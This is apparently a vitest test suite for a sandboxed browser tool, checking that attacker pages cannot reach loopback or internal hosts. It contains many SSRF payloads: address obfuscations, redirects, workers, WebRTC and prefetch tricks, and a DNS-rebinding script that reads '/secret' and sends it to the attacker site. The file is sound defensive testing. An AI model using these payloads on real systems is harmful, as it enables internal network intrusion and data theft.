import { createSocket } from "node:dgram";
import { once } from "node:events";
import { createServer } from "node:net";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { LocalSite } from "../net/local-site.ts";
import { Browsing, page } from "./browsing.ts";

/** The site of an attacker on 127.0.0.2, and on 127.0.0.1 at the same port what nobody may reach. */
let site: LocalSite;
const inside = createServer((socket) => {
  connections++;
  socket.on("error", () => undefined).resume();
  socket.end("HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 10\r\n\r\nthe inside");
});
const datagrams = createSocket("udp4", () => packets++);
let connections = 0;
let packets = 0;
let browsing: Browsing;
const pages = new Map<string, string>();
const lookups: string[] = [];
const told: string[] = [];
/** How often a name still means the attacker's own machine. */
const stillOutside: Record<string, number> = { "soon.rebinding.test": 1, "later.rebinding.test": 2 };

async function lookup(hostname: string): Promise<readonly string[]> {
  lookups.push(hostname);
  if (hostname === "hostile.test") return ["127.0.0.2"];
  const left = stillOutside[hostname] ?? 0;
  stillOutside[hostname] = left - 1;
  if (left > 0) return ["127.0.0.2"];
  return ["127.0.0.1"];
}

beforeAll(async () => {
  site = await LocalSite.open(({ url }, response) => {
    const { pathname, searchParams } = new URL(url, "http://site");
    const to = searchParams.get("to");
    if (to !== null) return response.writeHead(Number(searchParams.get("as") ?? 302), { location: to }).end();
    if (pathname === "/told") told.push(searchParams.get("what") ?? "");
    response.setHeader("access-control-allow-origin", "*");
    response.setHeader("content-type", pathname.endsWith(".js") ? "text/javascript" : "text/html");
    response.end(pages.get(pathname) ?? "");
  }, "127.0.0.2");
  await new Promise<void>((resolve) => inside.listen(site.port, "127.0.0.1", resolve));
  await new Promise<void>((resolve) => datagrams.bind(0, "127.0.0.1", resolve));
  browsing = new Browsing({ allow: ["127.0.0.2"] }, lookup);
});
afterAll(async () => {
  await browsing[Symbol.asyncDispose]();
  await site[Symbol.asyncDispose]();
  await new Promise((resolve) => inside.close(resolve));
  datagrams.close();
});

/** INSIDE stands for an address inside, HOST for its host and port, SITE for the attacker's own. */
const tricks: Record<string, string> = {
  "an image": `<img src="INSIDE">`,
  "a script": `<script src="INSIDE"></script>`,
  "a stylesheet": `<link rel="stylesheet" href="INSIDE">`,
  "a background": `<div style="background:url(INSIDE);width:9px;height:9px"></div>`,
  "a font": `<style>@font-face{font-family:f;src:url(INSIDE)}p{font-family:f}</style><p>text</p>`,
  "a frame": `<iframe src="INSIDE"></iframe>`,
  "an object": `<object data="INSIDE"></object>`,
  "a video": `<video src="INSIDE" autoplay></video>`,
  "a frame in a frame": `<iframe srcdoc="<img src='INSIDE'>"></iframe>`,
  "a sandboxed frame": `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('INSIDE')</script>"></iframe>`,
  fetch: `<script>fetch("INSIDE", { mode: "no-cors" })</script>`,
  "a fetch that outlives the page": `<script>fetch("INSIDE", { mode: "no-cors", keepalive: true })</script>`,
  XMLHttpRequest: `<script>const x = new XMLHttpRequest(); x.open("POST", "INSIDE"); x.send("body")</script>`,
  "a beacon": `<script>navigator.sendBeacon("INSIDE", "body")</script>`,
  "a stream of events": `<script>new EventSource("INSIDE")</script>`,
  "a web socket": `<script>new WebSocket("ws://HOST/")</script>`,
  "a secure web socket": `<script>new WebSocket("wss://HOST/")</script>`,
  "a secure image": `<img src="https://HOST/">`,
  "a redirect of an image": `<img src="/?to=INSIDE">`,
  "a redirect of a fetch": `<script>fetch("/?as=307&to=INSIDE", { method: "POST", body: "b", mode: "no-cors" })</script>`,
  "a redirect of a frame": `<iframe src="/?to=INSIDE"></iframe>`,
  "two redirects": `<img src="/?to=SITE/%3Fto=INSIDE">`,
  "a worker": `<script>new Worker(URL.createObjectURL(new Blob(["fetch('INSIDE', { mode: 'no-cors' })"])))</script>`,
  "a script in a worker": `<script>new Worker(URL.createObjectURL(new Blob(["importScripts('INSIDE')"])))</script>`,
  "a shared worker": `<script>new SharedWorker(URL.createObjectURL(new Blob(["fetch('INSIDE', { mode: 'no-cors' })"])))</script>`,
  "a stylesheet's import": `<style>@import url(INSIDE);</style>`,
  "a picture in SVG": `<svg><image href="INSIDE" width="9" height="9"></image></svg>`,
};

/** The same for what leaves the page. */
const departures: Record<string, string> = {
  "a form": `<form method="post" action="INSIDE"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
  "a refresh": `<meta http-equiv="refresh" content="0;url=INSIDE">`,
  "a new location": `<script>location = "INSIDE"</script>`,
  "another window": `<script>open("INSIDE")</script>`,
};

const hostFor = (name: string) => `${name.toLowerCase().replaceAll(/[^a-z]+/g, "-")}.inside.test`;

describe("whatever a page asks for, nothing inside is reached", () => {
  beforeAll(async () => {
    const all = Object.entries(tricks).map(([name, markup]) => written(markup, `${hostFor(name)}:${site.port}`));
    pages.set("/tricks", page("Tricks", all.join("\n")));
    await browsing.text("browser_open", { url: `${site.url}/tricks` });
  });
  test.each(Object.keys(tricks))("by %s", async (name) => {
    await vi.waitFor(() => expect(lookups).toContain(hostFor(name)), { timeout: 30_000 }); // so it was tried
    expect(connections).toBe(0);
  });

  test.each(Object.entries(departures))("by %s", async (name, markup) => {
    pages.set("/trick", page(name, written(markup, `${hostFor(name)}:${site.port}`)));
    await browsing.text("browser_open", { url: `${site.url}/trick` });
    await vi.waitFor(() => expect(lookups).toContain(hostFor(name)), { timeout: 30_000 });
    expect(connections).toBe(0);
  });

  /** Some of these a browser may not even try, so each tells when it is over. */
  const quiet: Record<string, string> = {
    "a service worker": `await navigator.serviceWorker.register("/worker.js")`,
    "addresses in every spelling": `for (const host of ["127.0.0.1", "localhost", "a.localhost", "127.1", "2130706433", "0x7f.1", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "127.0.0.1.", "[::]"])
        await fetch("http://" + host + ":PORT/", { mode: "no-cors" }).catch(() => undefined)`,
    "web sockets to addresses": `for (const host of ["127.0.0.1", "localhost", "[::1]"])
        await new Promise((over) => { new WebSocket("ws://" + host + ":PORT/").onerror = over; })`,
    "hints of what comes next": `for (const rel of ["dns-prefetch", "preconnect", "prefetch", "preload", "modulepreload", "prerender"]) {
        const link = document.createElement("link");
        Object.assign(link, { rel, as: "script", href: "http://127.0.0.1:PORT/" + rel });
        document.head.append(link);
      }
      const rules = document.createElement("script");
      rules.type = "speculationrules";
      rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["http://127.0.0.1:PORT/"] }], prerender: [{ source: "list", urls: ["http://127.0.0.1:PORT/"] }] });
      document.head.append(rules);
      await new Promise((over) => setTimeout(over, 500))`,
    WebRTC: `const servers = ["stun:127.0.0.1:UDP", "turn:127.0.0.1:UDP?transport=udp", "turn:127.0.0.1:PORT?transport=tcp", "turns:127.0.0.1:PORT?transport=tcp"];
      const peer = new RTCPeerConnection({ iceServers: servers.map((urls) => ({ urls, username: "a", credential: "b" })) });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
      const candidate = "candidate:1 1 udp 2113937151 127.0.0.1 UDP typ host";
      const sdp = peer.localDescription.sdp.replace("a=setup:actpass", "a=setup:active");
      await peer.setRemoteDescription({ type: "answer", sdp }).catch(() => undefined);
      await peer.addIceCandidate({ candidate, sdpMid: "0" }).catch(() => undefined);
      await new Promise((over) => setTimeout(over, 1000))`,
    WebTransport: `await new WebTransport("https://127.0.0.1:UDP/").ready.catch(() => undefined)`,
  };
  test.each(Object.keys(quiet))("by %s", async (name) => {
    const script = written(quiet[name] ?? "", "");
    const report = `fetch("/told?what=" + encodeURIComponent(${JSON.stringify(name)}))`;
    const body = `<script>(async () => { ${script} })().catch(() => undefined).finally(() => ${report})</script>`;
    pages.set("/trick", page(name, body));
    pages.set("/worker.js", written(`fetch("http://127.0.0.1:PORT/", { mode: "no-cors" })`, ""));
    await browsing.text("browser_open", { url: `${site.url}/trick` });
    await vi.waitFor(() => expect(told).toContain(name), { timeout: 8000 });
    expect([connections, packets]).toEqual([0, 0]);
  });

  test("by a name that means another machine the second time", async () => {
    const script = `fetch("/secret").then((answer) => answer.text()).then((text) => fetch("SITE/told?what=" + text))`;
    pages.set("/rebind", page("rebind", `<script>${written(script, "")}</script>`));
    const open = (host: string) => browsing.text("browser_open", { url: `http://${host}:${site.port}/rebind` });
    // It is checked once for a clear answer, and by the proxy for the connection.
    expect(await open("soon.rebinding.test")).toContain("Status: 403");
    expect(await open("later.rebinding.test")).toContain("Status: 200");
    await vi.waitFor(() => expect(told.at(-1)).toContain("later.rebinding.test resolves to a loopback address"));
    expect(connections).toBe(0);
  });

  test("and a page that was led inside says why it is empty", async () => {
    await browsing.text("browser_open", { url: `${site.url}/?to=http://metadata.inside.test:${site.port}/` });
    expect(await browsing.text("browser_read")).toContain("metadata.inside.test resolves to a loopback address");
    expect(connections).toBe(0);
  });

  test("the browser asks for nothing of its own", () => {
    expect(lookups.filter((name) => !/\.inside\.test$|\.rebinding\.test$|localhost$/.test(name))).toEqual([]);
  });

  test("where it is allowed it is reached, so the counts above can fail", async () => {
    await using open = new Browsing({ allow: ["127.0.0.2", "an-image.inside.test"] }, lookup);
    pages.set("/trick", page("open", written(tricks["an image"] ?? "", `an-image.inside.test:${site.port}`)));
    const reached = once(inside, "connection");
    await open.text("browser_open", { url: `${site.url}/trick` });
    await reached;
    expect(connections).toBeGreaterThan(0);
  });
});

function written(markup: string, host: string): string {
  const { port } = datagrams.address();
  return markup
    .replaceAll("SITE", site.url)
    .replaceAll("INSIDE", `http://${host}/`)
    .replaceAll("HOST", host)
    .replaceAll("UDP", String(port))
    .replaceAll("PORT", String(site.port));
}
